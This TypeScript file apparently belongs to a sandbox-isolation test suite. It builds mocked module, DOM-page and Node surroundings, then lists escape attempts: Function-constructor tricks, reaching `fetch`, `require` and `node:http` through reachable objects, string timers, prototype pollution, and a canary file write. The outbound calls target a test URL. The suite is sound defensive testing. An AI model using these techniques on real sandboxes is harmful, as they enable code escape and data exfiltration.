/** Code around an attack: everything that stands for a missing module, a page or one of Node's modules. */
export interface Surroundings {
  readonly name: string
  /** Statements before the function that attacks. */
  readonly imports: string
  /** Statements at its beginning, which use what it imports. They declare `reachable`, the objects that it got hold of. */
  readonly use: string
}

/** The surroundings in which every attack is tried. */
export const surroundings: readonly Surroundings[] = [
  {
    name: 'a mocked import',
    imports: `
      import main, { send, Mailer, config, settings } from 'mailer'
      import * as all from './all'
      import fs from 'fs'
      const http = require('node:http')
      const made = settings.read('x').table`,
    use: `
      send(url)
      new Mailer(url)
      all.load(url)
      fs.writeFileSync('/tmp/canary', 'leaked')
      http.get(url + 'mocked-http')
      const whole = all
      const lazy = await import('lazy')
      const reachable = { main, send, Mailer, config, settings, made, whole, lazy, deep: whole.other, fs, get: http.get,
        called: made(), built: new made.Row(), proto: Object.getPrototypeOf(made), fetch, navigator, XMLHttpRequest }`,
  },
  {
    name: 'an emulated page',
    imports: `const body = document.body`,
    use: `
      body.innerHTML = '<button id=go onclick="globalThis.escaped = 1">go</button><form><input name=parentNode></form>'
      const button = document.querySelector('#go')
      button.click()
      let heard
      button.addEventListener('click', (event) => { heard = event })
      button.dispatchEvent(new Event('click'))
      const view = document.defaultView
      const reachable = { body, button, document, heard, view, storage: localStorage, window, own: button.ownerDocument,
        implementation: document.implementation, parser: new DOMParser(), selection: view.getSelection(), timer: view.setTimeout,
        frame: body.appendChild(document.createElement('iframe')).contentWindow, history, screen, browser: view.happyDOM }`,
  },
  {
    name: "Node's modules",
    imports: `
      import events, { EventEmitter } from 'node:events'
      import * as util from 'util'
      import path from 'path'
      import { createHash } from 'crypto'
      import assert from 'assert'
      import timers from 'timers'
      import { URL as NodeURL } from 'url'`,
    use: `
      const emitter = new EventEmitter()
      let caller
      emitter.on('x', function () { caller = this })
      emitter.emit('x')
      let failure
      try { assert.equal(1, 2) } catch (error) { failure = error }
      let inspected
      util.inspect({ [util.inspect.custom](...args) { inspected = args; return '' } })
      const reachable = { events, emitter, caller, util, path, hash: createHash('md5'), failure, inspected, timers, Buffer,
        buffer: Buffer.from('x'), url: new NodeURL(url), promisified: util.promisify(setTimeout), process }`,
  },
]

/**
 * Attempts by what the code got hold of: the global object, code from text, a loader of modules, and names that make
 * other objects than records. Pairs as those of `egress.ts`.
 */
export const attemptsByObjects: readonly (readonly [string, string])[] = [
  [
    'functions made by reachable constructors',
    `await each((it, name) => it.constructor.constructor('u', 'return Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch.call(globalThis, u)')(url + 'constructor-of-' + name))`,
  ],
  [
    'globals of reachable objects',
    `await each(async (it, name) => {
      for (const global of ['fetch', 'require', 'importScripts', 'eval', 'Function', 'Worker', 'XMLHttpRequest', 'process', 'open']) {
        const found = it[global]
        if (found === undefined || found === null) continue
        const to = url + global + '-of-' + name
        try { await found.call(it, to) } catch {}
        try { const made = new found(to); await made; await made.send?.() } catch {}
        try { await found.call(it, 'fetch(' + JSON.stringify(to) + ')')?.() } catch {}
        try { (found.mainModule ?? found).require('node:http').get(to) } catch {}
        try { found.getBuiltinModule('node:http').get(to) } catch {}
      }
    })`,
  ],
  [
    'timers of reachable objects',
    `await each((it, name) => { for (const timer of ['setTimeout', 'setInterval', 'setImmediate', 'requestAnimationFrame', 'queueMicrotask', 'nextTick']) try { it[timer]('globalThis.fetch(' + JSON.stringify(url + timer + name) + ')', 0) } catch {} })`,
  ],
  [
    'prototypes of reachable objects',
    `await each((it) => {
      for (const key of ['__proto__', 'constructor', 'then', 'toString', 'valueOf', 'prototype', 'get', 'set', 'value']) {
        try { it.__proto__[key + 'Polluted'] = 'polluted' } catch {}
        try { it.constructor.prototype[key + 'Polluted'] = 'polluted' } catch {}
      }
    })`,
  ],
  [
    'callers of getters and of converted values',
    `let seen = ''
    const spy = new Proxy(function () {}, { get(_, key) { seen += String(key) + ' '; return undefined }, apply: (_, self) => { seen += typeof self } })
    await each((it) => it(spy)); await each((it) => { it.spy = spy }); await each((it) => it.emit('x', spy))
    return typeof seen`,
  ],
]

/** The source of a module whose function `attack` runs a program (`egress.ts`) in these surroundings. */
export function attackIn({ imports, use }: Surroundings, program: string): string {
  return `
// @ts-nocheck
${imports}
export async function attack(): Promise<string> {
  return JSON.stringify(await run())
}
async function run(): Promise<unknown> {
  ${program.replace('/* surroundings */', () => `${use}\nconst each = async (visit) => { for (const [name, it] of Object.entries(reachable)) try { await visit(it, name) } catch {} }`)}
}
`
}
